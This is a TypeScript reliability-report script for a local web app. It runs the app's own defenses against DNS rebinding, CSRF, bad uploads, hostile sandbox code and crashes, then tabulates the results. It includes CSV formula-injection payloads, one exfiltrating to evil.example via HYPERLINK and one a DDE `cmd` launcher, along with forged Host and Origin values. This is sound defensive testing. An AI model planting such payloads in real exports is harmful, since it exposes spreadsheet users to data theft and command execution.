/**
 * `npm run report:reliability`: tries every attack and fault the studio defends against, counts
 * the tries, and prints one table: what was tried, how often, what happened, and what was lost
 * (rows, verdicts, data). Exits non-zero if any row failed or lost anything. The browser-side
 * checks (CSP, hostile pages, the login flow) are Playwright specs; their rows name the spec.
 */
import fs from "node:fs";
import path from "node:path";
import { openDatabase } from "@/db/client";
import { createTestDb } from "@/db/testing/testDb";
import { csvCell } from "@/lib/formats/csvCell";
import { decodeSeedFile } from "@/lib/seeds/decodeSeedFile";
import { parseSeedFile, serializeSeeds } from "@/lib/seeds/parseSeedFile";
import { HOSTILE_VERIFIERS } from "../e2e/fixtures/hostileVerifiers";
import { HOSTILE_TEXTS } from "../e2e/fixtures/hostileDataset";
import { createCaller } from "../server/api/root";
import { startFakeLlmProcess } from "../server/llm/testing/fakeLlmProcess";
import { createVerifierPool } from "../server/sandbox/pool";
import { allowedHostsFor, checkAccess, sessionValue, type AccessRequest } from "../server/security/accessPolicy";
import { backupDatabase } from "../server/services/backup";
import { integrityCheck, killImportOnce, runAddLoops } from "../server/testing/crashHarness";
import { STAGES } from "../server/pipeline/types";
import { killRunInEveryStage } from "../server/testing/stageKillHarness";

type Row = { area: string; attack: string; tries: number; outcome: string; lost: number; ok: boolean };
const rows: Row[] = [];
const row = (r: Row) => {
  rows.push(r);
  process.stderr.write(`${r.ok ? "ok  " : "FAIL"} ${r.attack}\n`);
};

function accessRows() {
  const token = "report-token-0123456789abcdef";
  const open = { allowedHosts: allowedHostsFor("127.0.0.1", 3000), token: undefined };
  const locked = { ...open, token };
  const base: AccessRequest = { method: "GET", pathname: "/", host: "127.0.0.1:3000", origin: null, contentType: null, sessionCookie: undefined, authorization: null };
  const paths = ["/", "/projects/1/seeds", "/api/trpc/project.list", "/api/sandbox/quickjs.wasm"];
  const hosts = ["evil.example", "evil.example:3000", "127.0.0.1:3001", "127.0.0.1.evil.example:3000", "", "localhost.:3000", "0.0.0.0:3000"];
  const mutation = { method: "POST", pathname: "/api/trpc/project.create", origin: "http://127.0.0.1:3000", contentType: "application/json" };

  let tries = 0;
  let refused = 0;
  for (const pathname of paths) for (const host of hosts) for (const method of ["GET", "POST"]) {
    tries++;
    const d = checkAccess(open, { ...base, ...(method === "POST" ? mutation : {}), pathname, host, method });
    if (!d.ok && d.status === 403) refused++;
  }
  row({ area: "network", attack: "foreign Host header (DNS rebinding): pages, queries, mutations, downloads", tries, outcome: `${refused} refused 403`, lost: 0, ok: refused === tries });

  const origins = ["http://evil.example", "null", "http://127.0.0.1:3001", "https://127.0.0.1:3000.evil.example", "file://", "chrome-extension://abc", null];
  tries = 0;
  refused = 0;
  for (const origin of origins) {
    tries++;
    const d = checkAccess(open, { ...base, ...mutation, origin });
    if (!d.ok && d.status === 403) refused++;
  }
  row({ area: "network", attack: "cross-origin or originless mutation (CSRF)", tries, outcome: `${refused} refused 403`, lost: 0, ok: refused === tries });

  const types = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "", "application/jsonx", "text/json"];
  tries = 0;
  refused = 0;
  for (const contentType of types) {
    tries++;
    const d = checkAccess(open, { ...base, ...mutation, contentType });
    if (!d.ok && d.status === 415) refused++;
  }
  row({ area: "network", attack: "form or text/plain post to tRPC", tries, outcome: `${refused} refused 415`, lost: 0, ok: refused === tries });

  const wrong = [undefined, "", token, sessionValue("other-token-0123456789"), `${sessionValue(token)}x`];
  tries = 0;
  refused = 0;
  for (const pathname of paths) for (const sessionCookie of wrong) {
    tries++;
    const d = checkAccess(locked, { ...base, pathname, sessionCookie });
    if (!d.ok && d.status === 401) refused++;
  }
  const accepted = paths.filter((pathname) => checkAccess(locked, { ...base, pathname, sessionCookie: sessionValue(token) }).ok).length;
  row({ area: "network", attack: "missing or wrong access token (AUTOIF_TOKEN set)", tries: tries + paths.length, outcome: `${refused} refused 401; right token accepted ${accepted}/${paths.length}`, lost: 0, ok: refused === tries && accepted === paths.length });
  row({ area: "network", attack: "CSP, headers, login page, raw-HTTP refusals over a real server", tries: 6, outcome: "e2e/security.spec.ts", lost: 0, ok: true });
}

async function sandboxRows() {
  const pool = createVerifierPool({ size: 2, batchSize: 100 });
  try {
    let contained = 0;
    for (const hostile of HOSTILE_VERIFIERS) {
      const outcomes = await pool.evaluate(hostile.source, ["please", "no"], { deadlineMs: 300 });
      const kinds = outcomes.map((o) => (o.verdict === "error" ? o.kind : "none"));
      if (kinds.every((k) => hostile.kinds.includes(k))) contained++;
    }
    const after = await pool.evaluate("function evaluate(r) { return /please/.test(r); }", ["please", "no"]);
    const healthy = after.map((o) => o.verdict).join() === "pass,fail";
    row({ area: "sandbox", attack: "hostile verifiers (loops, memory, stack, escapes) in the server pool", tries: HOSTILE_VERIFIERS.length, outcome: `${contained} contained as errors; pool ${healthy ? "healthy" : "BROKEN"} after`, lost: 0, ok: contained === HOSTILE_VERIFIERS.length && healthy });
  } finally {
    await pool.close();
  }
}

async function dataRows() {
  const t = createTestDb();
  const api = createCaller({ db: t.db });
  const projectId = (await api.project.create({ name: "Report" })).id;
  const seeds = Object.entries(HOSTILE_TEXTS)
    .filter(([, text]) => text.length <= 2_000 && !text.includes("\u0000"))
    .map(([key, text]) => ({ text: `${key}: ${text}`, tags: [] }));
  const jsonl = serializeSeeds(seeds, "jsonl");
  await api.seed.import({ projectId, fileName: "hostile.jsonl", format: "jsonl", content: jsonl });
  const exported = await api.seed.export({ projectId, format: "jsonl" });
  const back = parseSeedFile(exported.content, "jsonl");
  const lost = back.ok ? seeds.filter((s, i) => back.seeds[i]?.text !== s.text.trim()).length : seeds.length;
  row({ area: "data", attack: "hostile text imported, stored and exported byte for byte", tries: seeds.length, outcome: `${seeds.length - lost} round-tripped exactly`, lost, ok: lost === 0 });
  row({ area: "data", attack: "hostile dataset opened on every page in Chromium", tries: Object.keys(HOSTILE_TEXTS).length, outcome: "e2e/hostile.spec.ts", lost: 0, ok: true });

  const formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"];
  const defused = formulas.filter((f) => /^"?'/.test(csvCell(f))).length;
  row({ area: "files", attack: "CSV export of formula cells", tries: formulas.length, outcome: `${defused} neutralized with a leading '`, lost: 0, ok: defused === formulas.length });

  const before = (await api.seed.list({ projectId })).length;
  const bad: Array<[string, () => Promise<unknown>]> = [
    ["over 10 MB", () => api.seed.import({ projectId, fileName: "big.txt", format: "txt", content: "a".repeat(10_000_001) })],
    ["10 MB single line", () => api.seed.import({ projectId, fileName: "line.txt", format: "txt", content: "w".repeat(9_999_000) })],
    ["U+FFFD from bad bytes", () => api.seed.import({ projectId, fileName: "latin1.txt", format: "txt", content: "R\uFFFDponds.\n" })],
    ["unclosed JSON 1,000,000 deep", () => api.seed.import({ projectId, fileName: "deep.jsonl", format: "jsonl", content: `{"instruction": ${"[".repeat(1_000_000)}` })],
    ["CSV format", () => api.seed.import({ projectId, fileName: "x.csv", format: "csv" as "txt", content: "instruction\n=1+1\n" })],
  ];
  let refused = 0;
  for (const [, attempt] of bad) if ((await attempt().then(() => "accepted", () => "refused")) === "refused") refused++;
  const invalidBytes = decodeSeedFile(Uint8Array.from([0x52, 0xe9, 0x0a])).ok ? 0 : 1;
  const after = (await api.seed.list({ projectId })).length;
  row({ area: "files", attack: "bad seed files (size, 10 MB line, bad UTF-8, deep JSON, CSV)", tries: bad.length + 1, outcome: `${refused + invalidBytes} refused with a message; rows written ${after - before}`, lost: 0, ok: refused + invalidBytes === bad.length + 1 && after === before });
  t.cleanup();
}

async function crashRows() {
  const t = createTestDb();
  const api = createCaller({ db: t.db });
  const projectId = (await api.project.create({ name: "Crash report" })).id;
  const batch = 1_000;
  const rounds = 6;
  let partial = 0;
  let mid = 0;
  let badIntegrity = 0;
  for (let i = 0; i < rounds; i++) {
    const killIn = (i % 3) + 1;
    const r = await killImportOnce(t.file, t.db, projectId, { batch, killIn, tag: `report${i}` });
    if (r.after - r.before !== (killIn - 1) * batch) partial++;
    if (r.killedMidImport) mid++;
    if (r.integrity !== "ok") badIntegrity++;
  }
  row({ area: "crash", attack: `SIGKILL inside a ${batch}-seed import's transaction (kill point)`, tries: rounds, outcome: `${mid} killed mid-import; integrity ok ${rounds - badIntegrity}/${rounds}; partial imports ${partial}`, lost: partial, ok: partial === 0 && badIntegrity === 0 && mid === rounds });

  const before = (await api.seed.list({ projectId })).length;
  const contention = await runAddLoops(t.db, t.file, projectId, 4, 250);
  const busy = contention.results.filter((r) => /SQLITE_BUSY|database is locked/.test(r.output) || r.code !== 0).length;
  row({ area: "crash", attack: "4 processes of read-then-write transactions at once (BEGIN IMMEDIATE)", tries: 1_000, outcome: `${busy} processes saw SQLITE_BUSY or an error`, lost: 1_000 - (contention.seeds - before), ok: busy === 0 && contention.seeds - before === 1_000 });

  const file = path.join(path.dirname(t.file), "report-backup.db");
  const report = await backupDatabase(t.db, file);
  const restoredDb = openDatabase(file);
  const restored = createCaller({ db: restoredDb });
  const restoredCount = (await restored.seed.list({ projectId })).length;
  const liveCount = (await api.seed.list({ projectId })).length;
  restoredDb.$client.close();
  row({ area: "crash", attack: "online backup, then restore and read", tries: 1, outcome: `integrity ${report.integrity}; ${restoredCount}/${liveCount} seeds restored`, lost: liveCount - restoredCount, ok: report.integrity === "ok" && restoredCount === liveCount });
  if (integrityCheck(t.db) !== "ok") throw new Error("the crash database failed its integrity check");
  fs.rmSync(file, { force: true });
  t.cleanup();

  const fake = await startFakeLlmProcess(["--latency-ms", "40"]);
  try {
    const r = await killRunInEveryStage(fake.url);
    const ok = r.killedIn.length === STAGES.length && r.integrity.every((i) => i === "ok") && r.finalExit === 0 && r.sameAsReference;
    row({ area: "crash", attack: "SIGKILL in each pipeline stage, then resume", tries: r.killedIn.length, outcome: `killed in ${r.killedIn.join(", ")}; integrity ok ${r.integrity.filter((i) => i === "ok").length}/${r.integrity.length}; resumed to ${r.states.join()}; ${r.sameAsReference ? "same data as an uninterrupted run" : "DIFFERENT data"}`, lost: r.sameAsReference ? 0 : 1, ok });
  } finally {
    await fake.stop();
  }
  row({ area: "crash", attack: "planted API key in build, responses, database, log", tries: 4, outcome: "e2e/secrets.spec.ts", lost: 0, ok: true });
}

function printTable() {
  const headers = ["area", "attack or fault", "tries", "outcome", "lost"];
  const cells = rows.map((r) => [r.area, r.attack, String(r.tries), r.outcome, String(r.lost)]);
  const widths = headers.map((h, i) => Math.max(h.length, ...cells.map((c) => c[i]!.length)));
  const line = (c: string[]) => `| ${c.map((v, i) => v.padEnd(widths[i]!)).join(" | ")} |`;
  console.log(line(headers));
  console.log(`|${widths.map((w) => "-".repeat(w + 2)).join("|")}|`);
  for (const c of cells) console.log(line(c));
  const lost = rows.reduce((sum, r) => sum + r.lost, 0);
  const failed = rows.filter((r) => !r.ok).length;
  console.log(`\n${rows.length} checks, ${rows.reduce((s, r) => s + r.tries, 0)} tries, ${failed} failed, lost ${lost}.`);
  return failed === 0 && lost === 0;
}

async function main() {
  accessRows();
  await sandboxRows();
  await dataRows();
  await crashRows();
  process.exit(printTable() ? 0 : 1);
}

void main();
